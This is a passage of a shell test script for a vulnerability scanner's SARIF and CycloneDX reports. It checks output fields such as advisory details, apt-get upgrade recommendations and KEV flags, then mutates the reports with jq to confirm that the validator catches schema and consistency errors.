check_eq "cyclonedx: details not ASCII kept" "$(vuln GHSA-cgdm-0001-test .detail)" '"Crafted input runs code éè — see the advisory.\n\n| a | b |"'
check_eq "cyclonedx: recommendation" "$(vuln DSA-5365-1 .recommendation)" \
	"\"Upgrade curl to $curl_fix (apt-get install --only-upgrade curl=$curl_fix); Upgrade libcurl4 to $curl_fix (apt-get install --only-upgrade libcurl4=$curl_fix)\""
check_eq "cyclonedx: properties" "$(vuln GHSA-cgdm-0001-test '[.properties[] | "\(.name)=\(.value)"] | join(" ")')" \
	'"cguard:urgency=fix-now cguard:status=fixed cguard:kev=false"'
check_eq "cyclonedx: KEV" "$(vuln CVE-2021-44228 '[.properties[] | select(.name == "cguard:kev") | .value]')" '["true"]'

# ---- the checker catches what it is for ------------------------------------------------------
mutate() { # mutate MODE NAME FROM JQ-FILTER EXPECTED-PROBLEM
	jq "$4" "$3" >"$T_TMP/bad-$2.json"
	echo "$2|$5" >>"$T_TMP/bad-$1.list"
}
mutate sarif sarif-level "$s" '.runs[0].results[0].level = "fatal"' 'must be equal to one of the allowed values'
mutate sarif sarif-uri "$s" '.runs[0].tool.driver.rules[0].helpUri = "not a uri"' 'must match format "uri"'
mutate sarif sarif-field "$s" '.runs[0].results[0].rule_id = "x"' 'must NOT have additional properties'
mutate sarif sarif-rule-index "$s" '.runs[0].results[0].ruleIndex += 1' 'is not rule'
mutate sarif sarif-severity "$s" '(.runs[0].tool.driver.rules[] | select(.id == "GHSA-cgdm-0001-test") | .properties."security-severity") = "9.8"' 'security-severity 9.8'
mutate sarif sarif-fingerprint "$s" '.runs[0].results[1].partialFingerprints = .runs[0].results[0].partialFingerprints' 'fingerprint'
mutate sarif sarif-result-lost "$s" 'del(.runs[0].results[0])' 'findings with no result'
mutate cdx cdx-ref "$c" '.vulnerabilities[0].affects[0].ref = "nothing"' 'is no component'"'"'s bom-ref'
mutate cdx cdx-severity "$c" '.vulnerabilities[0].ratings[0].severity = "severe"' 'schema: /vulnerabilities/0/ratings/0/severity'
mutate cdx cdx-date "$c" '.vulnerabilities[0].published = "2025-01-01"' 'must match format "date-time"'
mutate cdx cdx-bom-ref "$c" '.vulnerabilities[1]."bom-ref" = .vulnerabilities[0]."bom-ref"' 'again'
mutate cdx cdx-sbom "$c" '.components[0].name = "other"' 'is not the SBOM'
mutate cdx cdx-grouped "$c" '.vulnerabilities += [.vulnerabilities[0] | ."bom-ref" = "x"]' 'for advisories'
for mode in sarif cdx; do
	while IFS='|' read -r name want; do
		if [ $mode = sarif ]; then validated sarif "$T_TMP/bad-$name.json" "$T_TMP/deb.json"
		else validated cdx "$T_TMP/bad-$name.json" "$T_TMP/deb.json" "$T_TMP/deb.sbom.json"; fi
		if grep -qF -- "$want" "$T_TMP/verdict"; then ok; else
			fail "$mode checker misses $name (want '$want')"; sed 's/^/    /' "$T_TMP/verdict" | head -5; fi
	done <"$T_TMP/bad-$mode.list"
done
finish
